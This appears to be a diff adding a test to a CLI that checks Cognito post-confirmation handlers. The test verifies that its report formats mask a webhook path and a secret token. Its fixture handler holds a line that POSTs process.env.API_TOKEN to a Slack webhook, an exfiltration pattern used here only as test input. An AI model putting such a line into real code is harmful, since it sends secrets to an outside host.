@@ -50,3 +50,25 @@ it("says how to run a scenario alone", async () => {
     /run alone: npx cognito-postconfirm check h\.mjs \\?\s+--only confirm-sign-up\/plain\n/,
   );
 });
+
+it("shows the address of a webhook and the secrets of variables in no report", async () => {
+  const code = `export const handler = async (event) => {
+    await fetch("https://hooks.slack.com/services/T0/B0/x1y2z3", { method: "POST", body: process.env.API_TOKEN });
+    return event;
+  };`;
+  const folder = folderWith({ "h.mjs": code });
+  const formats = ["json", "junit", "github", "markdown", "tap", "html"];
+  const { out } = await cli(
+    [
+      ...["check", "h.mjs", "--only", "confirm-sign-up/twice", "--env", "API_TOKEN=tok3n-value"],
+      ...formats.flatMap((name) => ["--reporter", `${name}=out.${name}`]),
+      ...["--reporter", "human", "--allow-net", "none.example.com"],
+    ],
+    { cwd: folder },
+  );
+  const all = [out, ...formats.map((name) => readFileSync(join(folder, `out.${name}`), "utf8"))];
+  for (const text of all) expect(text).not.toMatch(/x1y2z3|tok3n-value/);
+  expect(all.filter((text) => text.includes("hooks.slack.com/services/***"))).toHaveLength(
+    all.length,
+  );
+});
